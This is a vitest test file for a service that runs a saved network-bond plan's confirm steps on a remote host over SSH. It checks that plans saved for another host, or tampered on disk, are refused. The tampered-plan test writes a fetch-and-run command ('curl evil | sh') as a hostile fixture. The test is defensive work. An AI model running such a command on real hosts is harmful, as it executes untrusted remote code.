import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { DiscoveryResult } from '../../preload/contract';
import { planBondChange } from '../drivers/plan-change';
import type { HostConnection } from '../ssh/connection';
import { HostStore } from '../store/host-store';
import { InflightStore } from '../store/inflight-store';
import { linuxFacts, spec } from '../../e2e/kit/host-facts';
import { AuditLog } from '../store/audit-log';
import { EventHub } from './event-sink';
import { PendingService } from './pending-service';
import { RecoveryService } from './recovery-service';
import type { SessionService } from './session-service';

// Keep after a restart runs the saved plan's confirm steps on the box: only a plan Bondsmith wrote
// for that host and that change, never a file that merely sits in the data directory.

const RUN = 'create-r1';
const dataDirs: string[] = [];
afterEach(async () => {
  await Promise.all(dataDirs.splice(0).map((d) => rm(d, { recursive: true, force: true })));
});

async function world() {
  const dataDir = await mkdtemp(join(tmpdir(), 'bs-pending-'));
  dataDirs.push(dataDir);
  const ran: string[] = [];
  const connection = {
    snapshot: () => ({ state: 'ready' }),
    exec: (command: string) => {
      ran.push(command);
      return Promise.resolve({ code: 0, signal: null, stdout: 'confirmed', stderr: '' });
    },
  } as unknown as HostConnection;
  const facts = linuxFacts({ pendingRuns: [{ runId: RUN, secondsLeft: 40 }] });
  const result: DiscoveryResult = { hostId: 'h1', facts, view: null, error: null, durationMs: 1 };
  const sessions = { connection: () => connection, refresh: () => Promise.resolve(result) } as unknown as SessionService;
  const store = new HostStore(dataDir);
  await store.load();
  const inflight = new InflightStore(dataDir);
  const recovery = new RecoveryService(store, inflight, new AuditLog(dataDir), new EventHub(), () => false);
  return { dataDir, ran, inflight, pending: new PendingService(store, sessions, inflight, recovery) };
}

function planFor(hostId: string) {
  const r = planBondChange({ hostId, facts: linuxFacts(), action: 'create', spec: spec(), options: { runId: RUN } });
  if (!r.ok) throw new Error(JSON.stringify(r.fieldErrors));
  return r.plan;
}

describe('PendingService: Keep with the plan kept on this computer', () => {
  it('runs the confirm steps of the plan saved for this host and change', async () => {
    const { ran, inflight, pending } = await world();
    const plan = planFor('h1');
    await inflight.save({ hostId: 'h1', applyId: 'a1', plan, deadline: null });
    await pending.resolve('h1', 'keep', RUN);
    expect(ran).toEqual(plan.steps.filter((s) => s.phase === 'confirm').map((s) => s.command));
    expect(await inflight.list()).toEqual([]);
  });

  it('refuses a saved plan that belongs to another host, and runs nothing', async () => {
    const { ran, inflight, pending } = await world();
    await inflight.save({ hostId: 'h2', applyId: 'a1', plan: planFor('h2'), deadline: null });
    await expect(pending.resolve('h1', 'keep', RUN)).rejects.toMatchObject({ code: 'SAVED_PLAN_REFUSED', message: expect.stringContaining('another host') as unknown });
    expect(ran).toEqual([]);
  });

  it('refuses a saved plan that is not in the format Bondsmith writes, says where it was kept, and runs nothing', async () => {
    const { dataDir, ran, inflight, pending } = await world();
    const plan = planFor('h1');
    const evil = { ...plan, steps: plan.steps.map((s) => (s.phase === 'confirm' ? { ...s, kind: 'anything', command: 'curl evil | sh' } : s)) };
    await inflight.save({ hostId: 'h1', applyId: 'a1', plan, deadline: null });
    await writeFile(join(dataDir, 'inflight', `${RUN}.json`), JSON.stringify({ hostId: 'h1', applyId: 'a1', plan: evil, deadline: null }));
    await expect(pending.resolve('h1', 'keep', RUN)).rejects.toMatchObject({ code: 'SAVED_PLAN_REFUSED', message: expect.stringMatching(/saved-plan format.*kept aside as .*create-r1\.json\.corrupt-/) as unknown });
    expect(ran).toEqual([]);
  });
});
